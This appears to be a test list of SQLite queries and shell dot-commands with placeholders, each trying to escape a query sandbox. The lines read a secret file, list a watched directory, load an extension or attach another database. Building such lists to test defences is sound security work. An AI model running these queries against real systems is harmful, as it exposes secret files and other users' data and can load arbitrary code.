SELECT readfile('{secret}')
SELECT CAST(readfile('{secret}') AS TEXT)
SELECT * FROM fsdir('{watched}')
SELECT * FROM lsdir('{watched}')
SELECT load_extension('{secret}')
SELECT * FROM csv('{secret}')
SELECT * FROM zipfile('{secret}')
SELECT * FROM '{secret}'
SELECT * FROM "{secret}"
SELECT * FROM main."{secret}"
ATTACH '{victim}' AS v ||| SELECT * FROM v.emp
ATTACH 'file:{victim}?immutable=1' AS v ||| SELECT * FROM v.emp
CREATE TABLE t AS SELECT * FROM v.emp ||| SELECT * FROM t
CREATE VIRTUAL TABLE c USING csv(filename='{secret}') ||| SELECT * FROM c
CREATE VIRTUAL TABLE c USING vsv(filename='{secret}') ||| SELECT * FROM c
CREATE VIRTUAL TABLE c USING fts5(a, tokenize='{secret}') ||| SELECT * FROM c
CREATE VIRTUAL TABLE c USING swarmvtab('SELECT 1') ||| SELECT * FROM c
CREATE VIRTUAL TABLE c USING unionvtab('SELECT 1') ||| SELECT * FROM c
CREATE VIRTUAL TABLE c USING dbdata ||| SELECT * FROM c
CREATE TEMP VIEW w AS SELECT readfile('{secret}') AS x ||| SELECT * FROM w
CREATE TABLE g(a, b AS (readfile('{secret}'))) ||| SELECT * FROM g
.read {secret}
.import {secret} t
.open {victim}
SELECT sqlar_uncompress(readfile('{secret}'), 1)
SELECT file_read('{secret}')
